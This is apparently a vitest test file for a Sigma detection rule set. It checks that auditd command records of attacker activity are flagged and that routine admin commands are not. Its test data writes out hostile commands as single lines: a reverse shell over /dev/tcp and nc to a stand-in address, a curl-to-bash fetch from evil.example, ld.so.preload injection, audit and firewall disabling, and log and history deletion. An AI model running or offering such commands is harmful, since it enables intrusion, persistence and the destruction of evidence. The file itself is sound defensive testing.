import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { normalise } from '#shared/sigma/normalise.ts'
import { createSigmaEngine } from '#shared/sigma/sigma.ts'
import { loadRules } from '../../../../server/cli/sigma/load.ts'

const folder = join(import.meta.dirname, '../../../../agent/sense/sigma/rules')
const set = await loadRules(folder, {})

/** As auditd writes a command: an argument that holds more than plain characters in hexadecimal digits. */
function execve(...words: string[]): string {
  const written = words.map((word, index) =>
    /^[\w./:@=+-]+$/.test(word) ? `a${index}="${word}"` : `a${index}=${Buffer.from(word).toString('hex').toUpperCase()}`,
  )
  return `type=EXECVE msg=audit(1700000000.000:1): argc=${words.length} ${written.join(' ')}`
}
const syscall = (exe: string): string => `type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exe="${exe}"`

const titlesFor = (line: string): string[] =>
  createSigmaEngine(set)
    .judge(normalise(line), 0)
    .map(({ about }) => about.title)

describe('the rules that ship', () => {
  it('can all be used, say their technique, and could be armed', () => {
    expect(set.refused).toEqual([])
    expect(set.rules.length).toBeGreaterThanOrEqual(12)
    for (const { techniques, status } of set.rules) expect([techniques.length > 0, status]).toEqual([true, 'test'])
  })

  it.each<[line: string, title: string]>([
    [execve('auditctl', '-e', '0'), 'Audit Or Logging Is Switched Off'],
    [execve('systemctl', 'stop', 'auditd'), 'Audit Or Logging Is Switched Off'],
    [execve('shred', '-u', '/var/log/auth.log'), 'System Logs Are Emptied Or Deleted'],
    [execve('iptables', '-F'), 'The Firewall Is Switched Off'],
    [execve('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), 'A Shell Is Tied To A Network Connection'],
    [execve('nc', '203.0.113.9', '4444', '-e', '/bin/sh'), 'A Shell Is Tied To A Network Connection'],
    [execve('sh', '-c', 'curl -s https://evil.example/x | bash'), 'What Was Downloaded Is Given To A Shell'],
    [execve('sh', '-c', 'echo /tmp/x.so > /etc/ld.so.preload'), 'A Library Is Put Before All Others'],
    [execve('usermod', '-aG', 'sudo', 'eve'), "An Account Is Given An Administrator's Power"],
    [execve('insmod', '/tmp/x.ko'), 'A Kernel Module Is Loaded From A Folder Of Users'],
    [execve('zfs', 'destroy', '-r', 'tank@daily'), 'Snapshots Are Deleted By A Command'],
    [syscall('/dev/shm/x'), 'A Program Runs From Shared Memory'],
    [execve('rm', '-f', '/root/.bash_history'), "The Shell's History Is Switched Off Or Deleted"],
    [execve('bash', '-c', 'echo aWQ= | base64 -d | bash'), 'Base64 Is Decoded Straight Into A Shell'],
  ])('fit what they are for: %s', (line, title) => {
    expect(titlesFor(line)).toContain(title)
  })

  it.each([
    execve('npm', 'ci'),
    execve('git', 'gc'),
    execve('tar', 'czf', '/backup/var-log.tgz', '/var/log'),
    execve('gzip', '-r', '/var/log/app'),
    execve('apt-get', 'install', '-y', 'curl'),
    execve('sh', '-c', 'curl -fsSL https://example.org/file -o /tmp/file'),
    execve('bash', '-c', 'cat x | base64 -d > y'),
    execve('systemctl', 'restart', 'auditd'),
    execve('usermod', '-aG', 'video', 'eve'),
    execve('cat', '/etc/ld.so.preload'),
    execve('nc', '-z', 'db', '5432'),
    execve('insmod', '/lib/modules/6.1/x.ko'),
    execve('restic', 'forget', '--keep-daily', '7'),
    execve('rm', '-rf', '/tmp/build'),
    execve('/usr/sbin/logrotate', '/etc/logrotate.conf'),
    syscall('/usr/bin/perl'),
  ])('say nothing of daily work: %s', (line) => {
    expect(titlesFor(line)).toEqual([])
  })
})
